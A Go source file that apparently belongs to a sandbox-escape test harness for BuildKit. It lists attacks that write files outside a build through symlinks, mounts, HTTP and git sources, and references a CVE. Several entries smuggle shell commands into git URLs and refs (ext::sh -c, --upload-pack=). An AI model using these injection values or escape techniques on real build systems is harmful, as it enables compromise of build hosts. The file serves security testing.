package main

import (
	"context"

	"github.com/moby/buildkit/client/llb"
)

// writes are attacks that write a file outside of what a build has.
func writes() []attack {
	return []attack{
		// CVE-2026-33747
		{"container_id", func(ctx context.Context, b *bridge) error { return b.rawContainer(ctx, outside+"container") }},
		{"mount_point", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "", "true", llb.AddMount("/"+outside+"mount-point/x", llb.Scratch(), llb.Tmpfs()))
		}},
		{"mount_point_through_link", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, linked(b).Run(llb.Args([]string{"true"}), llb.AddMount("/link/tmp/escaped-mount-point/x", llb.Scratch(), llb.Tmpfs())).Root())
		}},
		{"file", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, b.shell.File(llb.Mkfile(outside+"file", 0o644, []byte("x"))))
		}},
		{"file_through_link", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, linked(b).File(llb.Mkfile("/link/tmp/escaped-link", 0o644, []byte("x"))))
		}},
		{"directory_through_link", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, linked(b).File(llb.Mkdir("/link/tmp/escaped-directory", 0o755, llb.WithParents(true))))
		}},
		{"copy_through_link", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, linked(b).File(llb.Copy(b.shell, "/bin/busybox", "/link/tmp/escaped-copy")))
		}},
		{"http", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, llb.HTTP(b.options["build-arg:FILE"], llb.Filename(outside+"http")))
		}},
		{"git_command", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, gitSource("ext::sh -c touch% /tmp/escaped-git"))
		}},
		{"git_option", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, gitSource("--upload-pack=touch /tmp/escaped-option"))
		}},
		{"git_reference", func(ctx context.Context, b *bridge) error {
			return b.ends(ctx, llb.Git(b.options["build-arg:GIT"], "", llb.GitRef("--upload-pack=touch /tmp/escaped-reference")))
		}},
	}
}
